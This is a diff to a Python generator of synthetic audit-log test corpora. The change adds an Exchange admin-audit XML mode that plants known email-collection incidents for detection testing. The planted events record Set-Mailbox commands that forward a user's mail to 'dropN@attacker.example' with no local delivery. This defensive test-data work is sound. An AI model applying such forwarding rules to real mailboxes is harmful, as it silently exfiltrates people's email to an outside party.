@@ -4,7 +4,10 @@
 # /work/shared/reference/formats.md sections 2.3 and 3.2) with planted T1114 incidents whose
 # finding counts are known, and writes those counts to OUT.expected.json.
 # SPDX-License-Identifier: MIT
-"""Usage: gen_corpus.py --kind defender|office --size 1G [--seed N] --out FILE"""
+"""Usage: gen_corpus.py --kind defender|office|adminxml --size 1G [--seed N] --out FILE
+
+adminxml: the New-AdminAuditLogSearch XML report of Exchange Server (reference section 6.2):
+<SearchResults> with one <Event> per cmdlet run, CmdletParameters and ModifiedProperties."""
 
 import argparse
 import calendar
@@ -573,15 +576,94 @@ class Office(Common):
         return expected
 
 
+# ---------------------------------------------------------------------------------------------
+# Exchange Server admin audit XML report (New-AdminAuditLogSearch)
+
+def xattr(text):
+    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+            .replace('"', "&quot;"))
+
+
+class AdminXml(Common):
+    CMDLETS = ["Get-Mailbox", "Set-Mailbox", "Set-CASMailbox", "Add-MailboxPermission",
+               "Set-MailboxFolderPermission", "New-MoveRequest", "Set-User", "Enable-Mailbox"]
+
+    def event(self, ts, cmdlet, obj, params, props=(), ok=True):
+        rng = self.rng
+        t = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts)) + "+01:00"
+        head = ('  <Event Caller="corp.example.org/Users/%s" Cmdlet="%s" ObjectModified='
+                '"corp.example.org/Users/%s" RunDate="%s" Succeeded="%s" Error="%s" '
+                'OriginatingServer="MBX%02d (15.02.1544.004)">'
+                % (xattr(rng.choice(self.users)), cmdlet, xattr(obj), t,
+                   "true" if ok else "false", "None" if ok else "Access denied", rng.randint(1, 8)))
+        lines = [head, "    <CmdletParameters>"]
+        lines += ['      <Parameter Name="%s" Value="%s" />' % (n, xattr(v)) for n, v in params]
+        lines.append("    </CmdletParameters>")
+        if props:
+            lines.append("    <ModifiedProperties>")
+            lines += ['      <Property Name="%s" OldValue="%s" NewValue="%s" />'
+                      % (n, xattr(o), xattr(v)) for n, o, v in props]
+            lines.append("    </ModifiedProperties>")
+        else:
+            lines.append("    <ModifiedProperties />")
+        lines.append("  </Event>")
+        return "\n".join(lines)
+
+    def background(self, ts):
+        rng = self.rng
+        obj = rng.choice(self.users)
+        cmdlet = rng.choice(self.CMDLETS)
+        params = [("Identity", obj)]
+        props = ()
+        if cmdlet == "Set-Mailbox":
+            params.append(("ProhibitSendQuota", "%dGB" % rng.randint(2, 99)))
+            props = (("ProhibitSendQuota", "unlimited", params[-1][1]),)
+        elif cmdlet == "Add-MailboxPermission":
+            params += [("User", rng.choice(self.users)), ("AccessRights", "ReadPermission")]
+        elif cmdlet == "Set-MailboxFolderPermission":
+            params += [("User", "Default"), ("AccessRights", "None")]
+        elif cmdlet == "New-MoveRequest":
+            params.append(("TargetDatabase", "DB%02d" % rng.randint(1, 20)))
+        return self.event(ts, cmdlet, obj, params, props, ok=rng.random() > 0.02)
+
+    def plant(self, ts, unit):
+        obj = self.users[unit % len(self.users)]
+        return self.event(ts, "Set-Mailbox", obj,
+                          [("Identity", obj),
+                           ("ForwardingSmtpAddress", "smtp:drop%d@attacker.example" % unit),
+                           ("DeliverToMailboxAndForward", "False")],
+                          (("ForwardingSmtpAddress", "", "smtp:drop%d@attacker.example" % unit),))
+
+    def run(self, w, size):
+        rng = self.rng
+        units = max(1, size // UNIT_BYTES)
+        next_unit = 0
+        ts = BASE_EPOCH
+        w.add('<?xml version="1.0" encoding="utf-8"?>')
+        w.add("<SearchResults>")
+        while w.size() < size:
+            if next_unit < units and w.size() >= next_unit * (size // units):
+                w.add(self.plant(ts, next_unit))
+                next_unit += 1
+            for _ in range(64):
+                w.add(self.background(ts))
+                ts += rng.randint(0, 3)
+        w.add("</SearchResults>")
+        return {"forwarding": next_unit}
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__)
-    ap.add_argument("--kind", choices=["defender", "office"], required=True)
+    ap.add_argument("--kind", choices=["defender", "office", "adminxml"], required=True)
     ap.add_argument("--size", default="200M", help="target size, e.g. 50M, 1G")
     ap.add_argument("--seed", type=int, default=1114)
     ap.add_argument("--out", required=True)
     args = ap.parse_args()
     size = parse_size(args.size)
-    gen = Defender(args.seed) if args.kind == "defender" else Office(args.seed + 1)
+    if args.kind == "adminxml":
+        gen = AdminXml(args.seed + 2)
+    else:
+        gen = Defender(args.seed) if args.kind == "defender" else Office(args.seed + 1)
     w = Writer(args.out, size)
     expected = gen.run(w, size)
     w.close()
